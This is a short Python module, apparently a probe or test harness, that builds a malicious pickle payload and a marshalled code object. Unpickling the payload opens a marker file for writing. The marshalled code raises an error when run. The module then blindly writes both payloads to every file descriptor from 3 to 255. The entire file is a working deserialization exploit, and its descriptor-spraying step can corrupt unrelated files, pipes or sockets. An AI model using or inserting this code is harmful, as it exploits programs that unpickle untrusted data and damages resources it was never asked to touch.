"""Returns and writes bytes that run code where they are unpickled or unmarshalled."""

import marshal
import os
import pickle
from typing import Any


class Bait:
    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> tuple[Any, ...]:
        return (open, (self.path, "w"))


def f(stage: dict[str, Any]) -> bytes:
    baits = [pickle.dumps(Bait(f"{stage['folder']}/{stage['mark']}")), marshal.dumps(compile("1/0", "x", "exec"))]
    for descriptor in range(3, 256):
        for bait in baits:
            try:
                os.write(descriptor, bait)
            except OSError:
                continue
    return baits[0]
